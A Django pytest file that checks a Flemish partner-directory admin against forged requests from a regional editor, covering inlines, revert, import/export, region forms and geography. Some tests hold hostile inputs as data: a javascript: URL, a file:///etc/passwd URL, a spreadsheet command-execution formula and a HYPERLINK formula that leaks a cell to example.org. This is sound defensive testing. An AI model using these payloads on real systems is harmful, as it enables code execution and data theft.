"""An ELZ-redacteur of Leuven against the admin's forms: what no form offers, posted anyway.

Every test goes through the real admin URLs with a browser session that enforces CSRF
(`tests.helpers.attacker`), posts what the attacker would post, and asserts that the database and
the public pages are unchanged: inlines, revert, import, export, the region form and the geography.
"""

import io
import re
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from partners.models import Coverage, Locality, Municipality, Organization, Region, Service
from tests.helpers.admin_forms import admin_url, form_data
from tests.helpers.attacker import (
    LEUVEN_PAGES,
    ZENNE_PAGES,
    confirm_anyway,
    export,
    finder,
    inline_index,
    post_with_token,
    public,
    revert_url,
    rows_of,
    submit,
    to_csv,
    token,
    upload,
)

PASSWORD = "een-lang-wachtwoord-123"
CSRF = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')
CSV_FORMAT, XLSX_FORMAT = "0", "1"


# -- the services inline cannot widen a service's werkgebied -----------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("coverage", [{"coverage": "flanders"}, {"coverage": "province", "province": "antwerpen"}])
def test_services_inline_cannot_publish_a_service_in_every_region(attacker, leuven, zenne, coverage):
    organization = Organization.objects.filter(region=leuven, services__isnull=False).order_by("pk").first()
    service = organization.services.order_by("pk").first()
    before, pages = Service.objects.filter(pk=service.pk).values().get(), public(*ZENNE_PAGES)

    url = admin_url(organization)
    page = attacker.get(url)
    data = form_data(page)
    n = inline_index(data, "services", service.pk)
    forged = {**data, **{f"services-{n}-{field}": value for field, value in coverage.items()}, "csrfmiddlewaretoken": token(page)}
    response = attacker.post(url, forged)

    assert response.status_code == 302  # the form refuses quietly: the field is not offered
    assert Service.objects.filter(pk=service.pk).values().get() == before
    assert public(*ZENNE_PAGES) == pages


@pytest.mark.django_db
def test_provincial_coverage_in_the_inline_asks_for_the_province(national, leuven):
    """The redactie Vlaanderen may choose a province there; without one it gets a form error, not a 500."""
    organization = Organization.objects.filter(region=leuven, services__isnull=False).order_by("pk").first()
    service = organization.services.order_by("pk").first()
    page = national.get(admin_url(organization))
    data = form_data(page)
    n = inline_index(data, "services", service.pk)
    response = national.post(admin_url(organization), {**data, f"services-{n}-coverage": "province", f"services-{n}-province": "",
                                                       "csrfmiddlewaretoken": token(page)})  # fmt: skip
    assert response.status_code == 200
    assert "Kies de provincie waarin deze dienst werkt." in response.content.decode()
    assert Service.objects.get(pk=service.pk).coverage == Coverage.REGIONS


# -- simple-history's revert cannot bring back what the form refuses ---------------------------


@pytest.mark.django_db
def test_revert_cannot_bring_back_coverage_or_verification(attacker, zenne):
    service = Service.objects.get(key="kind-en-gezin-leuven")
    # Its history, as the redactie Vlaanderen left it: once for all of Flanders and verified by them.
    service.coverage, service.assured_date, service.assured_by = Coverage.FLANDERS, date(2025, 1, 6), "Redactie Vlaanderen"
    service.save()
    wide = service.history.latest()
    service.coverage, service.assured_date, service.assured_by = Coverage.REGIONS, None, ""
    service.save()
    before, pages = Service.objects.filter(pk=service.pk).values().get(), public(*ZENNE_PAGES)

    response = submit(attacker, revert_url(service, wide))

    assert response.status_code == 403
    assert "Alleen de redactie Vlaanderen kan ‘werkgebied’ wijzigen." in response.content.decode()
    assert Service.objects.filter(pk=service.pk).values().get() == before
    assert public(*ZENNE_PAGES) == pages


@pytest.mark.django_db
def test_revert_cannot_bring_back_a_region_slug(attacker, leuven):
    leuven.slug = "leuven-oud"
    leuven.save()
    old = leuven.history.latest()
    leuven.slug = "leuven"
    leuven.save()
    pages = public(*LEUVEN_PAGES)

    response = submit(attacker, revert_url(leuven, old))

    assert response.status_code == 403
    assert Region.objects.get(pk=leuven.pk).slug == "leuven"
    assert public(*LEUVEN_PAGES) == pages


@pytest.mark.django_db
def test_reverting_a_deleted_service_is_not_an_error(attacker, spare_service):
    pk = spare_service.pk
    version = spare_service.history.latest()
    delete = admin_url(spare_service, "delete")
    assert post_with_token(attacker, delete, delete, {"post": "yes"}).status_code == 302
    assert not Service.objects.filter(pk=pk).exists()

    response = submit(attacker, revert_url(spare_service, version))

    assert response.status_code == 302
    assert Service.objects.get(pk=pk).name == "Babbelpunt"


# -- an import is validated like the form ------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "changes",
    [
        {"website": "javascript:alert(document.domain)//"},
        {"website": "file:///etc/passwd"},
        {"postcode": "ABCDEFGH"},
        {"leeftijd_vanaf_maanden": "500", "leeftijd_tot_maanden": "1"},
        {"nagekeken_op": "2099-12-31"},
        {"nagekeken_door": "Redactie Vlaanderen"},
    ],
    ids=["javascript-url", "file-url", "postcode", "ages", "future-date", "verified-by"],
)
def test_import_validates_every_row_like_the_form(attacker, changes):
    rows = [row for row in rows_of(export(attacker, "service")) if row["sleutel"] == "kind-en-gezin-leuven"]
    rows[0].update(changes)
    before, pages = Service.objects.filter(key="kind-en-gezin-leuven").values().get(), public(*LEUVEN_PAGES)

    previewed = upload(attacker, "service", to_csv(rows))
    assert previewed.status_code == 200
    assert [row["label"] for row in previewed.context["rows"]] == ["geweigerd"]
    assert previewed.context.get("confirm_form") is None
    confirm_anyway(attacker, "service")

    assert Service.objects.filter(key="kind-en-gezin-leuven").values().get() == before
    assert public(*LEUVEN_PAGES) == pages
    assert "javascript:" not in public(*LEUVEN_PAGES)["/leuven/partnerkaart/"]


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["javascript:alert(document.domain)//", "ftp://files.example.org/brochure.pdf"])
def test_an_admin_form_refuses_a_url_that_is_not_http_too(attacker, url):
    service = Service.objects.get(key="kind-en-gezin-leuven")
    before = service.url
    response = submit(attacker, admin_url(service), {"url": url})
    assert response.status_code == 200
    assert "url" in response.context["adminform"].form.errors
    assert Service.objects.get(pk=service.pk).url == before


# -- exports carry no formula a spreadsheet would run ------------------------------------------


@pytest.mark.django_db
def test_a_formula_in_a_description_exports_as_inert_text(attacker):
    formula = '=HYPERLINK("https://example.org/?d="&A2,"Klik hier")'
    Service.objects.filter(key="kind-en-gezin-leuven").update(description=formula)

    sheet = openpyxl.load_workbook(io.BytesIO(export(attacker, "service", XLSX_FORMAT))).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("omschrijving")
    key_column = header.index("sleutel")
    cell = next(row[column] for row in sheet.iter_rows(min_row=2) if row[key_column].value == "kind-en-gezin-leuven")
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert not str(cell.value).startswith("=")
    assert "HYPERLINK" in str(cell.value)  # the text itself is still there


@pytest.mark.django_db
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_import_back_unchanged(attacker, leuven):
    from partners.staff.spreadsheets import quote_formula

    keys = list(Service.objects.filter(organization__region=leuven).order_by("key").values_list("key", flat=True)[:2])
    texts = dict(zip(keys, ["@SUM(1+1)*cmd|' /C calc'!A0", '+HYPERLINK("https://example.org")'], strict=True))
    for key, text in texts.items():
        Service.objects.filter(key=key).update(description=text)

    rows = {row["sleutel"]: row for row in rows_of(export(attacker, "service"))}
    for key, text in texts.items():
        assert rows[key]["omschrijving"] == "'" + text
    assert quote_formula("-9") == "-9"  # a negative age stays a number

    previewed = upload(attacker, "service", to_csv([rows[key] for key in texts]))
    assert [row["label"] for row in previewed.context["rows"]] == ["ongewijzigd", "ongewijzigd"]
    assert {key: Service.objects.get(key=key).description for key in texts} == texts


# -- saving a region keeps the exclusions of the redactie Vlaanderen ---------------------------


@pytest.mark.django_db
def test_saving_the_region_keeps_exclusions_of_the_redactie_vlaanderen(attacker, leuven):
    shown = Service.objects.filter(organization__region__isnull=True, entries__section__region=leuven).order_by("pk").first()
    elsewhere = Service.objects.create(
        organization=Organization.objects.create(name="Provinciaal Steunpunt Antwerpen"),
        key="steunpunt-antwerpen", name="Provinciaal Steunpunt Antwerpen", coverage=Coverage.PROVINCE, province="antwerpen",
    )  # fmt: skip
    leuven.excluded_services.add(shown, elsewhere)  # by the redactie Vlaanderen
    pages = public(*LEUVEN_PAGES)
    assert shown.name not in pages["/leuven/partnerkaart/"]

    response = submit(attacker, admin_url(leuven), {"contact_email": "info@elzleuven.be"})

    assert response.status_code == 302
    assert set(Region.objects.get(pk=leuven.pk).excluded_services.all()) == {shown, elsewhere}
    assert public(*LEUVEN_PAGES) == pages


# -- postcodes, gemeenten and zones are reference data -----------------------------------------
# Since the real geography (fixtures/geo) a region is a zone and its municipalities: reference
# data that no ELZ editor writes, and that the new-ELZ page can only pick, never move.


@pytest.mark.django_db
def test_editor_cannot_claim_another_regions_postcode(attacker, leuven, zenne):
    before = finder("/?postcode=1500", "/?q=Halle")
    zones = dict(Region.objects.values_list("slug", "zone_id"))
    localities = sorted(map(str, Locality.objects.values_list("name", "postcode", "zones")))
    page = attacker.get(admin_url(leuven))
    data = form_data(page)
    # A forged zone on the region's own form: the field is read-only for an editor.
    response = attacker.post(admin_url(leuven), {**data, "zone": str(zenne.zone_id), "csrfmiddlewaretoken": token(page)})
    assert response.status_code == 302
    # Adding Halle to Leuven's zone, straight to the zone admin's add and change URLs.
    halle = Municipality.objects.get(postcodes__code="1500")
    leuven_zone = leuven.zone
    add = attacker.post(reverse("admin:partners_zone_add"), {"name": "Leuven en Halle", "slug": "leuven-halle", "municipalities": [halle.pk], "csrfmiddlewaretoken": token(page)})  # fmt: skip
    assert add.status_code == 403
    claimed = attacker.post(admin_url(leuven_zone), {"name": leuven_zone.name, "municipalities": [halle.pk], "csrfmiddlewaretoken": token(page)})  # fmt: skip
    assert claimed.status_code == 403
    # Moving the municipality of Halle into Leuven's zone through the reference admin.
    moved = attacker.post(
        admin_url(halle), {"name_nl": halle.name_nl, "zones": [leuven.zone_id], "csrfmiddlewaretoken": token(page)}
    )
    assert moved.status_code == 403

    assert dict(Region.objects.values_list("slug", "zone_id")) == zones
    assert sorted(map(str, Locality.objects.values_list("name", "postcode", "zones"))) == localities
    assert list(halle.zones.values_list("slug", flat=True)) == ["zennevallei"]
    assert finder("/?postcode=1500", "/?q=Halle") == before


@pytest.mark.django_db
def test_a_new_elz_cannot_take_over_a_zone_that_has_its_own_map(national, leuven):
    before = Region.objects.filter(pk=leuven.pk).values().get()
    found = finder("/?postcode=3000")
    url = reverse("admin:new_region")
    response = post_with_token(national, url, url, {"zone": "leuven", "name": "ELZ Overname"})
    assert response.status_code == 200
    assert "Selecteer een geldige keuze" in response.content.decode()
    assert Region.objects.filter(pk=leuven.pk).values().get() == before
    assert not Region.objects.filter(name="ELZ Overname").exists()
    assert finder("/?postcode=3000") == found


@pytest.mark.django_db
def test_a_duplicate_elz_name_is_a_form_error(national, leuven):
    westhoek = Region.objects.filter(slug="westhoek").values().get()
    url = reverse("admin:new_region")
    response = post_with_token(national, url, url, {"zone": "westhoek", "name": "ELZ Leuven"})
    assert response.status_code == 200
    assert "Er bestaat al een eerstelijnszone met de naam ‘ELZ Leuven’." in response.content.decode()
    assert Region.objects.filter(name="ELZ Leuven").count() == 1
    assert Region.objects.filter(slug="westhoek").values().get() == westhoek
